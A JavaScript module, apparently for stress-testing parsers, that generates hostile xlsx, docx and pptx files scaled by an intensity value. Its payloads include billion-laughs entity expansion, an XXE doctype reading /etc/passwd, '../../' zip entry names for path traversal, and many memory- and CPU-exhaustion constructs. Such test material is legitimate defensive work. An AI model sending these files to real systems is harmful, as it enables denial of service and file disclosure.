// Ways to make readers of Office files grow, loop or overflow, after what was found in other readers. Each takes how far to go, from 0 to 1.
import { strToU8, zipSync } from 'fflate';
import { scaled } from './pdf.mjs';

export const HEAD = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>';
const OFFICE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const MAIN = {
  xlsx: 'http://schemas.openxmlformats.org/spreadsheetml/2006/main',
  docx: 'http://schemas.openxmlformats.org/wordprocessingml/2006/main',
  pptx: 'http://schemas.openxmlformats.org/presentationml/2006/main',
};
const TYPES = {
  xlsx: 'spreadsheetml.sheet.main',
  docx: 'wordprocessingml.document.main',
  pptx: 'presentationml.presentation.main',
};
const START = { xlsx: 'xl/workbook.xml', docx: 'word/document.xml', pptx: 'ppt/presentation.xml' };

export const relations = (targets) =>
  `${HEAD}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${targets
    .map(
      ([kind, target, more = ''], i) =>
        `<Relationship Id="r${i + 1}" Type="${OFFICE}/${kind}" Target="${target}" ${more}/>`,
    )
    .join('')}</Relationships>`;

function pack(kind, files) {
  const all = {
    '[Content_Types].xml': `${HEAD}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/${START[kind]}" ContentType="application/vnd.openxmlformats-officedocument.${TYPES[kind]}+xml"/></Types>`,
    '_rels/.rels': relations([['officeDocument', START[kind]]]),
    ...files,
  };
  return Buffer.from(
    zipSync(Object.fromEntries(Object.entries(all).map(([name, text]) => [name, strToU8(text)])), { level: 6 }),
  );
}

export const xlsx = ({
  sheet = '<sheetData/>',
  strings,
  names = '',
  before = '',
  dimension = '',
  relationships = [],
  files = {},
}) =>
  pack('xlsx', {
    'xl/workbook.xml': `${HEAD}${before}<workbook xmlns="${MAIN.xlsx}" xmlns:r="${OFFICE}"><sheets><sheet name="S" sheetId="1" r:id="r1"/></sheets>${names}</workbook>`,
    'xl/_rels/workbook.xml.rels': relations([
      ['worksheet', 'worksheets/sheet1.xml'],
      ['sharedStrings', 'sharedStrings.xml'],
      ...relationships,
    ]),
    'xl/worksheets/sheet1.xml': `${HEAD}<worksheet xmlns="${MAIN.xlsx}">${dimension}${sheet}</worksheet>`,
    ...(strings ? { 'xl/sharedStrings.xml': `${HEAD}<sst xmlns="${MAIN.xlsx}">${strings}</sst>` } : {}),
    ...files,
  });
const rows = (count, cells) =>
  `<sheetData>${Array.from({ length: count }, (_, i) => `<row r="${i + 1}">${cells(i + 1)}</row>`).join('')}</sheetData>`;
const formula = (text, i) => `<c r="A${i}"><f>${text}</f><v>1</v></c>`;

export const docx = (body, before = '', more = {}) =>
  pack('docx', {
    'word/document.xml': `${HEAD}${before}<w:document xmlns:w="${MAIN.docx}"><w:body>${body}</w:body></w:document>`,
    ...more,
  });
export const paragraph = (text, properties = '') =>
  `<w:p><w:pPr>${properties}</w:pPr><w:r><w:t>${text}</w:t></w:r></w:p>`;

const slide = (tree) =>
  `${HEAD}<p:sld xmlns:p="${MAIN.pptx}" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:r="${OFFICE}"><p:cSld><p:spTree>${tree}</p:spTree></p:cSld></p:sld>`;
export const pptx = (tree, slides = 1, more = {}) =>
  pack('pptx', {
    'ppt/presentation.xml': `${HEAD}<p:presentation xmlns:p="${MAIN.pptx}" xmlns:r="${OFFICE}"><p:sldIdLst>${Array.from({ length: slides }, (_, i) => `<p:sldId id="${256 + i}" r:id="r1"/>`).join('')}</p:sldIdLst><p:sldSz cx="9144000" cy="6858000"/></p:presentation>`,
    'ppt/_rels/presentation.xml.rels': relations([['slide', 'slides/slide1.xml']]),
    'ppt/slides/slide1.xml': slide(tree),
    ...more,
  });
export const shape = (text, more = '') =>
  `<p:sp><p:nvSpPr/><p:spPr>${more}</p:spPr><p:txBody><a:p><a:r><a:t>${text}</a:t></a:r></a:p></p:txBody></p:sp>`;

/** Entities that name each other: a billion laughs. */
const laughs = (far) =>
  `<!DOCTYPE x [<!ENTITY a "ha">${Array.from({ length: scaled(3, 12, far) }, (_, i) => `<!ENTITY ${'b'.repeat(i + 1)} "${`&${i === 0 ? 'a' : 'b'.repeat(i)};`.repeat(10)}">`).join('')}]>`;
const OUTSIDE = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd"><!ENTITY % b SYSTEM "http://127.0.0.1:9/x">]>';
const nested = (open, close, far, most = 200_000) =>
  open.repeat(scaled(100, most, far)) + close.repeat(scaled(100, most, far));

export const XLSX_ATTACKS = {
  'strings-used-again': (far) =>
    xlsx({
      strings: `<si><t>${'x'.repeat(32_000)}</t></si>`,
      sheet: rows(scaled(100, 200_000, far), (i) => `<c r="A${i}" t="s"><v>0</v></c>`),
    }),
  'a-string-of-many-runs': (far) =>
    xlsx({ strings: `<si>${'<r><t>x</t></r>'.repeat(scaled(1000, 2_000_000, far))}</si>` }),
  'strings-that-swell': (far) => xlsx({ strings: `<si><t>${'x'.repeat(scaled(1e5, 2e8, far))}</t></si>` }),
  'cells-at-the-far-end': (far) =>
    xlsx({
      sheet: `<sheetData><row r="${scaled(1e4, 1_048_576, far)}"><c r="XFD${scaled(1e4, 1_048_576, far)}"><v>1</v></c></row></sheetData>`,
    }),
  'rows-beyond-the-last': (far) =>
    xlsx({
      sheet: `<sheetData><row r="${scaled(2e6, 4e9, far)}"><c r="A${scaled(2e6, 4e9, far)}"><v>1</v></c></row></sheetData>`,
    }),
  'a-range-that-lies': (far) => xlsx({ dimension: `<dimension ref="A1:XFD${scaled(1e5, 4e9, far)}"/>` }),
  'merges-over-merges': (far) =>
    xlsx({
      sheet: `${rows(2, (i) => `<c r="A${i}"><v>1</v></c>`)}<mergeCells>${Array.from({ length: scaled(100, 100_000, far) }, () => '<mergeCell ref="A1:XFD1048576"/>').join('')}</mergeCells>`,
    }),
  'names-that-name-each-other': (far) =>
    xlsx({
      names: `<definedNames>${Array.from({ length: scaled(10, 2000, far) }, (_, i) => `<definedName name="n${i}">n${i + 1}+n${i + 1}</definedName>`).join('')}</definedNames>`,
      sheet: rows(1, (i) => formula('n0', i)),
    }),
  'formulas-in-brackets': (far) =>
    xlsx({
      sheet: rows(1, (i) => formula(`${'('.repeat(scaled(100, 8000, far))}1${')'.repeat(scaled(100, 8000, far))}`, i)),
    }),
  'formulas-in-circles': (far) => xlsx({ sheet: rows(scaled(100, 100_000, far), (i) => formula(`A${i + 1}+A1`, i)) }),
  'formulas-over-everything': (far) =>
    xlsx({ sheet: rows(scaled(10, 5000, far), (i) => formula('SUM(A1:XFD1048576)', i)) }),
  'a-shared-formula-over-everything': (far) =>
    xlsx({
      sheet: `<sheetData><row r="1"><c r="A1"><f t="shared" si="0" ref="A1:XFD${scaled(100, 1_048_576, far)}">B1</f><v>1</v></c></row></sheetData>`,
    }),
  'columns-over-columns': (far) =>
    xlsx({
      sheet: `<cols>${'<col min="1" max="16384" width="9"/>'.repeat(scaled(100, 100_000, far))}</cols><sheetData/>`,
    }),
  'elements-in-elements': (far) => xlsx({ sheet: nested('<x>', '</x>', far) }),
  'attributes-without-end': (far) =>
    xlsx({
      sheet: `<sheetData ${Array.from({ length: scaled(1000, 200_000, far) }, (_, i) => `a${i}="x"`).join(' ')}/>`,
    }),
  'prefixes-without-end': (far) =>
    xlsx({ sheet: Array.from({ length: scaled(100, 5000, far) }, (_, i) => `<x xmlns:p${i}="u${i}">`).join('') }),
  'entities-that-laugh': (far) =>
    xlsx({ before: laughs(far), names: '<definedNames><definedName name="n">&bbb;</definedName></definedNames>' }),
  'entities-from-outside': () =>
    xlsx({ before: OUTSIDE, names: '<definedNames><definedName name="n">&a;</definedName></definedNames>' }),
};

export const DOCX_ATTACKS = {
  'tables-in-tables': (far) => docx(nested('<w:tbl><w:tr><w:tc>', '</w:tc></w:tr></w:tbl>', far, 20_000)),
  'text-boxes-in-text-boxes': (far) =>
    docx(nested('<w:p><w:r><w:txbxContent>', '</w:txbxContent></w:r></w:p>', far, 20_000)),
  'fields-never-closed': (far) =>
    docx(`<w:p>${'<w:r><w:fldChar w:fldCharType="begin"/></w:r>'.repeat(scaled(100, 200_000, far))}</w:p>`),
  'cells-that-span': (far) =>
    docx(
      `<w:tbl>${'<w:tr><w:tc><w:tcPr><w:gridSpan w:val="999999999"/></w:tcPr><w:p/></w:tc></w:tr>'.repeat(scaled(1, 2000, far))}</w:tbl>`,
    ),
  'a-grid-without-end': (far) =>
    docx(
      `<w:tbl><w:tblGrid>${'<w:gridCol w:w="1"/>'.repeat(scaled(100, 500_000, far))}</w:tblGrid><w:tr><w:tc><w:p/></w:tc></w:tr></w:tbl>`,
    ),
  'a-paragraph-without-end': (far) => docx(paragraph('word '.repeat(scaled(1e4, 1e7, far)))),
  'letters-of-no-size': (far) =>
    docx(`<w:p><w:r><w:rPr><w:sz w:val="${scaled(1, 4e9, far)}"/></w:rPr><w:t>a b c</w:t></w:r></w:p>`),
  'breaks-without-end': (far) =>
    docx(`<w:p>${'<w:r><w:br w:type="page"/></w:r>'.repeat(scaled(100, 50_000, far))}</w:p>`),
  'an-indent-without-end': (far) =>
    docx(
      paragraph(
        'a b c '.repeat(500),
        `<w:ind w:left="${scaled(10_000, 2e9, far)}" w:right="${scaled(10_000, 2e9, far)}"/>`,
      ),
    ),
  'elements-in-elements': (far) => docx(nested('<x>', '</x>', far)),
  'entities-that-laugh': (far) => docx(paragraph('&bbb;'), laughs(far)),
  'entities-from-outside': () => docx(paragraph('&a;'), OUTSIDE),
  'entries-that-swell': (far) => docx(paragraph('a'), '', { 'word/styles.xml': ' '.repeat(scaled(1e6, 4e8, far)) }),
  'names-that-climb': (far) =>
    docx(
      paragraph('a'),
      '',
      Object.fromEntries(Array.from({ length: scaled(10, 20_000, far) }, (_, i) => [`../../${i}.xml`, 'x'])),
    ),
};

export const PPTX_ATTACKS = {
  'groups-in-groups': (far) => pptx(nested('<p:grpSp>', '</p:grpSp>', far, 50_000)),
  'shapes-without-end': (far) => pptx(shape('a').repeat(scaled(100, 50_000, far))),
  'slides-that-are-one': (far) => pptx(shape('a'), scaled(100, 30_000, far)),
  'a-table-without-end': (far) =>
    pptx(
      `<p:graphicFrame><a:graphic><a:graphicData><a:tbl><a:tblGrid>${'<a:gridCol w="1"/>'.repeat(scaled(100, 20_000, far))}</a:tblGrid>${`<a:tr h="1">${'<a:tc gridSpan="99999"/>'.repeat(50)}</a:tr>`.repeat(scaled(10, 500, far))}</a:tbl></a:graphicData></a:graphic></p:graphicFrame>`,
    ),
  'places-without-end': (far) =>
    pptx(
      shape(
        'a',
        `<a:xfrm rot="${scaled(1, 4e9, far)}"><a:off x="${scaled(1, 9e15, far)}" y="-9"/><a:ext cx="${scaled(1, 9e15, far)}" cy="0"/></a:xfrm>`,
      ),
    ),
  'a-text-without-end': (far) => pptx(shape('word '.repeat(scaled(1e4, 5e6, far)))),
  'elements-in-elements': (far) => pptx(nested('<x>', '</x>', far)),
};
